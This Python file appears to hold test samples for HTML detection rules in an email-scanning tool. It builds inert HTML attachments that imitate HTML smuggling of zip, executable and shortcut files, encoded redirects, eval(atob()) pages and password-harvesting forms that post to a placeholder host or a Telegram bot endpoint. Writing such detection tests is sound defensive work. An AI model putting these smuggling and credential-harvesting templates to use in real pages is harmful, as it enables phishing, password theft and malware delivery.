"""Samples for rules/html.yar. What they carry is inert, their hosts do not exist."""

import base64

from tests.starter.samples import formats
from tests.starter.samples.parts import attachment, body, file, member, message

_SAVE = (
    "const u = URL.createObjectURL(new Blob([bytes])); const a = document.createElement('a');"
    "a.href = u; a.download = 'invoice.zip'; a.click();"
)
_ZIP = base64.b64encode(b"PK\x03\x04" + bytes(300)).decode()
_PE = base64.b64encode(formats.pe()).decode()
_LNK = base64.b64encode(formats.shell_link("..\\cmd.exe", "x" * 60)).decode()


def _page(script: str = "", content: str = "<p>Please wait</p>") -> bytes:
    return f"<!DOCTYPE html><html><body>{content}<script>{script}</script></body></html>".encode()


_SMUGGLING = _page(f"const bytes = Uint8Array.from(atob('{_ZIP}'), c => c.charCodeAt(0)); {_SAVE}")
_NUMBERS = _page(f"const bytes = new Uint8Array([77, 90, 144, 0]); {_SAVE}")
_URI = _page(
    "document.links[0].click()",
    f'<a href="data:application/octet-stream;base64,{_ZIP}" download="a.zip">open</a>',
)
_PROGRAM = _page(f"const bytes = Uint8Array.from(atob('{_PE}'), c => c.charCodeAt(0)); {_SAVE}")
_SHORTCUT = _page(f'const t = "{_LNK}"; const bytes = new Uint8Array(9); {_SAVE}')

_PASSWORD = '<input name="p" TYPE="password" placeholder="Password">'
_LOGIN = _page("", f'<form method=post action="https://host.invalid/save.php">{_PASSWORD}</form>')
_FETCH = _page("$.post( 'https://host.invalid/x', d)", _PASSWORD)
_HIDDEN = _page(f"document.forms[0].action = atob('{_ZIP}')", f"<form>{_PASSWORD}</form>")
_OWN_LOGIN = _page("", f'<form method="post" action="/login">{_PASSWORD}</form>')
_SEARCH = _page(
    "", '<form action="https://www.example.org/search"><input name="q" type="text"></form>'
)
_BOT = _page("fetch('https://api.telegram.org/bot1:a/sendMessage')", _PASSWORD)
_BOT_ENCODED = _page(
    f"fetch(atob('{base64.b64encode(b'https://api.telegram.org/bot123:abc/').decode()}'))",
    _PASSWORD,
)

_ADDRESS = base64.b64encode(b"https://host.invalid/login").decode()
_ESCAPED = "".join(f"%{byte:02x}" for byte in b"<form>" + b"What the reader sees." * 6)
_NEWSLETTER = _page(
    "",
    '<h1>News</h1><a href="https://www.example.org/a">Read</a><img src="data:image/png;base64,'
    + "A" * 400
    + '">',
)
_ANALYTICS = _page(
    'document.write(unescape("%3Cscript src=\'" + host + "ga.js\'%3E%3C/script%3E"));'
    "if (window.location.href == x) { window.location.href = '/news'; }"
)
_EXPORT = _page(
    "function exportTable() { const b = new Blob([rows.join('\\n')]);"
    "a.href = URL.createObjectURL(b); a.download = 'table.csv'; a.click(); }"
    "const key = atob('c2hvcnQ=');"
)
_TEXT = b"They used atob( and new Blob( with createObjectURL, then .download = and .click()."

DETECTED = {
    "Mailward.Html.Smuggling": [
        attachment("invoice.html", _SMUGGLING, "text/html"),
        attachment("invoice.HTM", _NUMBERS),
        attachment("", _SMUGGLING, "text/html"),
        attachment("invoice.xhtml", _URI),
        member("invoice.html", _SMUGGLING),
        file("invoice.html", _SMUGGLING.replace(b"createObjectURL", b"msSaveOrOpenBlob")),
    ],
    "Mailward.Html.SmuggledProgram": [
        attachment("invoice.html", _PROGRAM, "text/html"),
        attachment("invoice.html", _SHORTCUT, "text/html"),
        member("invoice.htm", _PROGRAM),
    ],
    "Mailward.Html.EncodedRedirect": [
        attachment("a.html", _page(f"window.location.href = atob('{_ADDRESS}')"), "text/html"),
        attachment("a.html", _page("location.replace(window.atob(x))"), "text/html"),
        attachment("a.html", _page(f'var a = atob("{_ADDRESS}"); location = a;'), "text/html"),
        attachment("a.htm", _page("location='data:text/html;base64,PGI+'")),
        member(
            "a.html", b'<meta http-equiv="Refresh" content="0; url=data:text/html;base64,PGI+">'
        ),
    ],
    "Mailward.Html.EncodedPage": [
        attachment("a.html", _page(f"document.write(atob('{_ZIP}'))"), "text/html"),
        attachment("a.html", _page(f"eval( atob(`{_ZIP}`))"), "text/html"),
        attachment("a.html", _page(f"document.write(unescape('{_ESCAPED}'))"), "text/html"),
    ],
    "Mailward.Html.PasswordForm": [
        attachment("statement.html", _LOGIN, "text/html"),
        attachment("statement.shtml", _FETCH),
        attachment("statement.html", _HIDDEN, "text/html"),
        member("statement.html", _LOGIN),
    ],
    "Mailward.Html.TelegramExfiltration": [
        attachment("statement.html", _BOT, "text/html"),
        attachment("statement.html", _BOT_ENCODED, "text/html"),
    ],
}

LEFT_ALONE = {
    "Mailward.Html.Smuggling": [
        attachment("news.html", _NEWSLETTER, "text/html"),
        attachment("table.html", _EXPORT, "text/html"),
        attachment("notes.txt", _TEXT, "text/plain"),
        attachment("notes.html", b"<p>" + _TEXT + b"</p>", "text/html"),
        attachment("library.js", _SMUGGLING, "text/javascript"),
        body(_SMUGGLING, "text/html"),  # mail clients run no scripts
        message(b"Content-Type: text/html\r\n\r\n" + _SMUGGLING),
        attachment("empty.html", b"", "text/html"),
    ],
    "Mailward.Html.SmuggledProgram": [
        attachment("invoice.html", _SMUGGLING, "text/html"),
        attachment("table.html", _EXPORT, "text/html"),
        attachment("base64.html", f"<pre>{_PE}</pre>".encode(), "text/html"),
        body(_PROGRAM, "text/html"),
    ],
    "Mailward.Html.EncodedRedirect": [
        attachment("a.html", _ANALYTICS, "text/html"),
        attachment("a.html", _page("location.href = 'https://www.example.org/'"), "text/html"),
        attachment("a.html", _page("const token = atob('c2hvcnQ=')"), "text/html"),
        attachment(
            "a.html", b'<meta http-equiv="refresh" content="0; url=index.html">', "text/html"
        ),
        attachment("a.txt", _page(f"location.href = atob('{_ADDRESS}')"), "text/plain"),
    ],
    "Mailward.Html.EncodedPage": [
        attachment("a.html", _ANALYTICS, "text/html"),
        attachment("a.html", _NEWSLETTER, "text/html"),
        attachment("a.html", _page("document.write(new Date().getFullYear())"), "text/html"),
    ],
    "Mailward.Html.PasswordForm": [
        attachment("index.html", _OWN_LOGIN, "text/html"),
        attachment("search.html", _SEARCH, "text/html"),
        attachment("news.html", _NEWSLETTER, "text/html"),
        attachment("notes.txt", _LOGIN, "text/plain"),
        attachment(
            "help.html", b"<p>If you lost your password, fetch (https://www.example.org)</p>"
        ),
    ],
    "Mailward.Html.TelegramExfiltration": [
        attachment("statement.html", _LOGIN, "text/html"),
        attachment("bots.html", b"<p>See https://api.telegram.org/bot for how to write a bot</p>"),
    ],
}
